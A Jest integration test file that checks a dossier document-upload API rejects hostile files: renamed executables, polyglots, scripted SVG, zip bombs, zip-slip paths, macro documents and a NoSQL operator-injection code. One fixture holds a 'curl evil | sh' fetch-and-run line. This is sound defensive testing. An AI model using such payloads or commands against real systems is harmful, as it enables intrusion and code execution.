import { Types } from 'mongoose';
import request from 'supertest';
import { attachDocuments, eprRequiredDocuments } from '../../support/dossiers';
import { useTestDatabase } from '../../support/test-database';
import { buildZip, ELF_HEADER, HTML_PAGE, minimalDocx, minimalJpeg, minimalPdf, minimalPng, PE_HEADER, SVG_WITH_SCRIPT } from '../../fixtures/uploads/sample-files';
import { createEprDraft, filesUnder, upload, useDocumentWorld, type UploadFile } from './document-test-kit';
import { DossierDocumentModel } from '../../../src/documents/document.model';

const pdf = (name: string, bytes: Buffer, contentType = 'application/pdf'): UploadFile => ({ name, bytes, contentType });
const KIB = 1024;

type Target = 'own' | 'other' | 'submitted' | 'missing';
interface HostileCase {
  what: string;
  files: UploadFile[];
  code?: string | null;
  target?: Target;
  as?: 'business' | 'officer' | 'nobody';
  /** Several when the answer depends on middleware outside this capability (CSRF refuses before authentication). */
  status: number | number[];
  reason?: string;
}

const CASES: HostileCase[] = [
  { what: 'random bytes named .pdf', files: [pdf('report.pdf', Buffer.from('this is plainly not a pdf'))], status: 415, reason: 'unrecognized' },
  { what: 'a PDF header after leading junk', files: [pdf('report.pdf', Buffer.concat([Buffer.from('junk'), minimalPdf()]))], status: 415, reason: 'unrecognized' },
  { what: 'a Windows executable (MZ) renamed to .pdf', files: [pdf('invoice.pdf', PE_HEADER)], status: 415, reason: 'executable' },
  { what: 'an ELF executable renamed to .pdf', files: [pdf('plan.pdf', ELF_HEADER)], status: 415, reason: 'executable' },
  { what: 'a shell script renamed to .docx', files: [pdf('plan.docx', Buffer.from('#!/bin/sh\ncurl evil | sh\n'))], status: 415, reason: 'executable' },
  { what: 'an HTML page claiming application/pdf', files: [pdf('plan.pdf', HTML_PAGE)], status: 415, reason: 'markup' },
  { what: 'an SVG with script named .png', files: [pdf('logo.png', SVG_WITH_SCRIPT, 'image/png')], status: 415, reason: 'markup' },
  { what: 'a PDF with a ZIP appended (polyglot)', files: [pdf('plan.pdf', Buffer.concat([minimalPdf(), minimalDocx()]))], status: 415, reason: 'polyglot' },
  { what: 'a JPEG with HTML appended (polyglot)', files: [pdf('photo.jpg', Buffer.concat([minimalJpeg(), HTML_PAGE]), 'image/jpeg')], status: 415, reason: 'polyglot' },
  { what: 'a JPEG with a ZIP appended (polyglot)', files: [pdf('photo.jpg', Buffer.concat([minimalJpeg(), minimalDocx()]), 'image/jpeg')], status: 415, reason: 'polyglot' },
  { what: 'a PNG with bytes after IEND', files: [pdf('map.png', Buffer.concat([minimalPng(), Buffer.from('<script>')]), 'image/png')], status: 415, reason: 'polyglot' },
  { what: 'a truncated PDF', files: [pdf('plan.pdf', minimalPdf().subarray(0, 150))], status: 415, reason: 'truncated' },
  { what: 'a ZIP holding a PDF, named .docx', files: [pdf('plan.docx', buildZip([{ name: 'plan.pdf', data: minimalPdf() }]))], status: 415, reason: 'not_office_document' },
  { what: 'a macro-enabled document named .docx', files: [pdf('plan.docx', minimalDocx([{ name: 'word/vbaProject.bin', data: 'Attribute VB_Name' }]))], status: 415, reason: 'macro_enabled' },
  { what: 'a zip bomb (an entry that inflates a thousandfold)', files: [pdf('plan.docx', minimalDocx([{ name: 'word/media/z.bin', data: Buffer.alloc(16 * 1024 * KIB) }]))], status: 415, reason: 'zip_bomb' },
  { what: 'a zip bomb declaring 4 GB in a tiny entry', files: [pdf('plan.docx', minimalDocx([{ name: 'word/media/z.bin', data: 'x'.repeat(500), declaredUncompressedSize: 0xfffffff0 }]))], status: 415, reason: 'zip_bomb' },
  { what: 'a zip with 1001 entries', files: [pdf('plan.docx', buildZip(Array.from({ length: 1001 }, (_, i) => ({ name: `word/p${i}.xml`, data: '', store: true }))))], status: 415, reason: 'zip_bomb' },
  { what: 'a zip whose entries overlap', files: [pdf('plan.docx', buildZip([{ name: '[Content_Types].xml', data: 'a' }, { name: 'word/document.xml', data: 'b' }], { centralOffsets: () => [0, 0] }))], status: 415, reason: 'malformed_zip' },
  { what: 'a zip with a ../ entry (zip slip)', files: [pdf('plan.docx', minimalDocx([{ name: '../../../../tmp/evil.sh', data: 'x' }]))], status: 415, reason: 'malformed_zip' },
  { what: 'an encrypted zip', files: [pdf('plan.docx', minimalDocx([{ name: 'word/x.xml', data: 'x', flags: 1 }]))], status: 415, reason: 'encrypted_zip' },
  { what: 'an empty file', files: [pdf('empty.pdf', Buffer.alloc(0))], status: 415, reason: 'empty' },
  { what: 'a file over the size limit', files: [pdf('big.pdf', Buffer.concat([minimalPdf(), Buffer.alloc(300 * KIB)]))], status: 413, reason: 'file_too_large' },
  { what: 'more files than allowed in one request', files: Array.from({ length: 4 }, (_, i) => pdf(`p${i}.pdf`, minimalPdf())), status: 400, reason: 'too_many_files' },
  { what: 'files beyond the dossier quota', files: Array.from({ length: 3 }, (_, i) => pdf(`p${i}.pdf`, Buffer.alloc(250 * KIB, 1))), status: 413, reason: 'dossier_quota' },
  { what: 'a good file together with a bad one', files: [pdf('ok.pdf', minimalPdf()), pdf('bad.pdf', PE_HEADER)], status: 415, reason: 'executable' },
  { what: 'an unknown document code', code: 'passport_scan', files: [pdf('ok.pdf', minimalPdf())], status: 400, reason: 'unknown_code' },
  { what: 'a code with operator characters', code: '{"$ne":null}', files: [pdf('ok.pdf', minimalPdf())], status: 400 },
  { what: 'no code at all', code: null, files: [pdf('ok.pdf', minimalPdf())], status: 400 },
  { what: 'no file at all', files: [], status: 400, reason: 'missing_file' },
  { what: "another organization's dossier", target: 'other', files: [pdf('ok.pdf', minimalPdf())], status: 404 },
  { what: 'a dossier that does not exist', target: 'missing', files: [pdf('ok.pdf', minimalPdf())], status: 404 },
  { what: 'a dossier no longer editable (submitted)', target: 'submitted', files: [pdf('ok.pdf', minimalPdf())], status: 409, reason: 'dossier_not_editable' },
  { what: 'an officer uploading', as: 'officer', files: [pdf('ok.pdf', minimalPdf())], status: 403 },
  { what: 'nobody signed in', as: 'nobody', files: [pdf('ok.pdf', minimalPdf())], status: [401, 403] },
];

describe('hostile uploads', () => {
  const database = useTestDatabase();
  const world = useDocumentWorld(database);
  const dossiers = {} as Record<Target, string>;

  beforeAll(async () => {
    dossiers.own = await createEprDraft(world);
    dossiers.other = await createEprDraft(world, world.otherBusiness);
    dossiers.missing = String(new Types.ObjectId());
    dossiers.submitted = await createEprDraft(world);
    await attachDocuments(dossiers.submitted, eprRequiredDocuments(), world.business.id);
    const submit = await request(world.app).post(`/api/v1/applications/${dossiers.submitted}/events`).set('Authorization', `Bearer ${world.business.token}`).send({ type: 'SUBMIT', declaration: true });
    expect(submit.status).toBe(201);
  });

  it('has at least 25 hostile cases', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(25);
  });

  it.each(CASES)('when the upload is $what, then it answers $status problem+json and nothing is stored', async (hostile) => {
    const dossierId = dossiers[hostile.target ?? 'own'];
    const documentsBefore = await DossierDocumentModel.countDocuments({ dossierId });
    const user = hostile.as === 'nobody' ? undefined : hostile.as === 'officer' ? world.officer : world.business;
    const code = hostile.code === null ? undefined : (hostile.code ?? 'recycling_plan');

    const res = await upload(world, user, dossierId, code, hostile.files);

    expect([hostile.status].flat()).toContain(res.status);
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(res.body).toMatchObject({ status: res.status, detail: expect.any(String) });
    if (hostile.reason) expect(res.body.reason).toBe(hostile.reason);
    expect(await DossierDocumentModel.countDocuments({ dossierId })).toBe(documentsBefore);
    expect(await filesUnder(world.uploadDir)).toEqual([]);
  });

  it('when the multipart body is malformed, then it answers 400 and nothing is stored', async () => {
    const res = await request(world.app)
      .post(`/api/v1/applications/${dossiers.own}/documents`)
      .set('Authorization', `Bearer ${world.business.token}`)
      .set('Content-Type', 'multipart/form-data; boundary=xyz')
      .send('--xyz\r\nContent-Disposition: form-data; name="files"; filename="a.pdf"\r\n\r\n%PDF-1.7 cut off');
    expect(res.status).toBe(400);
    expect(res.body.reason).toBe('malformed_request');
    expect(await filesUnder(world.uploadDir)).toEqual([]);
  });

  it('when files come in another field than "files", then it answers 400 and nothing is stored', async () => {
    const res = await request(world.app)
      .post(`/api/v1/applications/${dossiers.own}/documents`)
      .set('Authorization', `Bearer ${world.business.token}`)
      .field('code', 'recycling_plan')
      .attach('attachment', minimalPdf(), { filename: 'a.pdf', contentType: 'application/pdf' });
    expect(res.status).toBe(400);
    expect(res.body.reason).toBe('unexpected_field');
    expect(await DossierDocumentModel.countDocuments({ dossierId: dossiers.own })).toBe(0);
    expect(await filesUnder(world.uploadDir)).toEqual([]);
  });
});
